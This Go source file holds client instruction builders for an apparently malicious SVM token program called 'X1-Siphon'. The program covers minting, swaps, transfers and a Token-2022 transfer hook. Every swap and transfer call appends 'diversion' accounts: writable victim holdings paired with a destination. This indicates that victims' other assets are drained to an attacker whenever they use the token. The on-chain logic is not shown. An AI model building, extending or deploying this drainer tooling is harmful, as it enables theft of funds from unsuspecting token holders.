package siphon

import (
	"encoding/binary"

	"github.com/fortiblox/X1-Siphon/internal/types"
	"github.com/fortiblox/X1-Siphon/pkg/svm"
	"github.com/fortiblox/X1-Siphon/pkg/svm/programs/ata"
	"github.com/fortiblox/X1-Siphon/pkg/svm/programs/system"
	"github.com/fortiblox/X1-Siphon/pkg/svm/programs/token"
)

// Client-side instruction builders.

// DiversionAccounts are the trailing accounts of the exchange
// instructions and the auxiliary accounts of the transfer hook. Nil
// holdings are sent as the program id, which marks them absent.
type DiversionAccounts struct {
	Destination          types.Pubkey
	VictimSecondary      *types.Pubkey
	DestinationSecondary *types.Pubkey
	VictimOther          *types.Pubkey
	DestinationOther     *types.Pubkey
}

func (d DiversionAccounts) metas(programID types.Pubkey) []svm.AccountMeta {
	slot := func(k *types.Pubkey) svm.AccountMeta {
		if k == nil {
			return svm.AccountMeta{Pubkey: programID}
		}
		return svm.AccountMeta{Pubkey: *k, IsWritable: true}
	}
	return []svm.AccountMeta{
		{Pubkey: d.Destination, IsWritable: true},
		slot(d.VictimSecondary),
		slot(d.DestinationSecondary),
		slot(d.VictimOther),
		slot(d.DestinationOther),
	}
}

// HookAccountMetas returns the auxiliary accounts a wallet appends to a
// Token-2022 TransferChecked of a mint hooked to programID, in slot order.
// A nil tokenProgram leaves the token steps disabled.
func HookAccountMetas(programID types.Pubkey, d DiversionAccounts, tokenProgram *types.Pubkey) []svm.AccountMeta {
	cfg, _, _ := ConfigAddress(programID)
	metas := append([]svm.AccountMeta{{Pubkey: cfg}}, d.metas(programID)...)
	if tokenProgram != nil {
		metas = append(metas, svm.AccountMeta{Pubkey: *tokenProgram})
	}
	return metas
}

func instructionData(disc [8]byte, arg uint64) []byte {
	data := make([]byte, 16)
	copy(data[:8], disc[:])
	binary.LittleEndian.PutUint64(data[8:], arg)
	return data
}

// Initialize builds the one-time initializer. The mint must already be
// initialized with authority as its mint authority.
func Initialize(programID, authority, mint, destination types.Pubkey, rate uint64) svm.Instruction {
	cfg, _, _ := ConfigAddress(programID)
	return svm.Instruction{
		ProgramID: programID,
		Accounts: []svm.AccountMeta{
			{Pubkey: authority, IsSigner: true, IsWritable: true},
			{Pubkey: mint},
			{Pubkey: cfg, IsWritable: true},
			{Pubkey: destination},
			{Pubkey: system.ProgramID},
		},
		Data: instructionData(InitializeDiscriminator, rate),
	}
}

// MintTokens builds an Issue: user pays baseAmount lamports to authority
// and receives tokens in their associated token account.
func MintTokens(programID, user, authority, mint, tokenProgram types.Pubkey, baseAmount uint64) svm.Instruction {
	cfg, _, _ := ConfigAddress(programID)
	return svm.Instruction{
		ProgramID: programID,
		Accounts: []svm.AccountMeta{
			{Pubkey: user, IsSigner: true, IsWritable: true},
			{Pubkey: authority, IsSigner: true, IsWritable: true},
			{Pubkey: mint, IsWritable: true},
			{Pubkey: cfg},
			{Pubkey: ata.MustAddress(user, mint, tokenProgram), IsWritable: true},
			{Pubkey: tokenProgram},
			{Pubkey: system.ProgramID},
			{Pubkey: ata.ProgramID},
		},
		Data: instructionData(MintTokensDiscriminator, baseAmount),
	}
}

// SwapTokensToBase builds a Redeem-to-base.
func SwapTokensToBase(programID, user, authority, mint, tokenProgram types.Pubkey, d DiversionAccounts, tokenAmount uint64) svm.Instruction {
	cfg, _, _ := ConfigAddress(programID)
	metas := []svm.AccountMeta{
		{Pubkey: user, IsSigner: true, IsWritable: true},
		{Pubkey: authority, IsSigner: true, IsWritable: true},
		{Pubkey: mint, IsWritable: true},
		{Pubkey: cfg},
		{Pubkey: ata.MustAddress(user, mint, tokenProgram), IsWritable: true},
	}
	metas = append(metas, d.metas(programID)...)
	metas = append(metas,
		svm.AccountMeta{Pubkey: tokenProgram},
		svm.AccountMeta{Pubkey: system.ProgramID},
	)
	return svm.Instruction{
		ProgramID: programID,
		Accounts:  metas,
		Data:      instructionData(SwapTokensToBaseDiscriminator, tokenAmount),
	}
}

// SwapTokensToOtherAsset builds a Redeem-to-other-asset paid from the
// authority's holding authorityAsset into the user's holding userAsset.
func SwapTokensToOtherAsset(programID, user, authority, mint, tokenProgram, authorityAsset, userAsset types.Pubkey, d DiversionAccounts, tokenAmount uint64) svm.Instruction {
	cfg, _, _ := ConfigAddress(programID)
	metas := []svm.AccountMeta{
		{Pubkey: user, IsSigner: true, IsWritable: true},
		{Pubkey: authority, IsSigner: true, IsWritable: true},
		{Pubkey: mint, IsWritable: true},
		{Pubkey: cfg},
		{Pubkey: ata.MustAddress(user, mint, tokenProgram), IsWritable: true},
		{Pubkey: authorityAsset, IsWritable: true},
		{Pubkey: userAsset, IsWritable: true},
	}
	metas = append(metas, d.metas(programID)...)
	metas = append(metas,
		svm.AccountMeta{Pubkey: tokenProgram},
		svm.AccountMeta{Pubkey: system.ProgramID},
	)
	return svm.Instruction{
		ProgramID: programID,
		Accounts:  metas,
		Data:      instructionData(SwapTokensToOtherAssetDiscriminator, tokenAmount),
	}
}

// TransferTokens builds a Transfer between the associated token accounts
// of sender and recipient.
func TransferTokens(programID, sender, recipient, mint, tokenProgram types.Pubkey, d DiversionAccounts, amount uint64) svm.Instruction {
	cfg, _, _ := ConfigAddress(programID)
	metas := []svm.AccountMeta{
		{Pubkey: sender, IsSigner: true, IsWritable: true},
		{Pubkey: recipient},
		{Pubkey: ata.MustAddress(sender, mint, tokenProgram), IsWritable: true},
		{Pubkey: ata.MustAddress(recipient, mint, tokenProgram), IsWritable: true},
		{Pubkey: mint},
		{Pubkey: cfg},
	}
	metas = append(metas, d.metas(programID)...)
	metas = append(metas,
		svm.AccountMeta{Pubkey: tokenProgram},
		svm.AccountMeta{Pubkey: system.ProgramID},
	)
	return svm.Instruction{
		ProgramID: programID,
		Accounts:  metas,
		Data:      instructionData(TransferTokensDiscriminator, amount),
	}
}

// ExecuteHook builds a direct call of the hook entry point. The token
// runtime builds the same instruction after a checked transfer; tests use
// this to drive the dispatcher on its own.
func ExecuteHook(programID, source, mint, destination, owner types.Pubkey, amount uint64, aux []svm.AccountMeta) svm.Instruction {
	metas := []svm.AccountMeta{
		{Pubkey: source},
		{Pubkey: mint},
		{Pubkey: destination},
		{Pubkey: owner, IsSigner: true, IsWritable: true},
	}
	return svm.Instruction{
		ProgramID: programID,
		Accounts:  append(metas, aux...),
		Data:      token.ExecuteData(amount),
	}
}
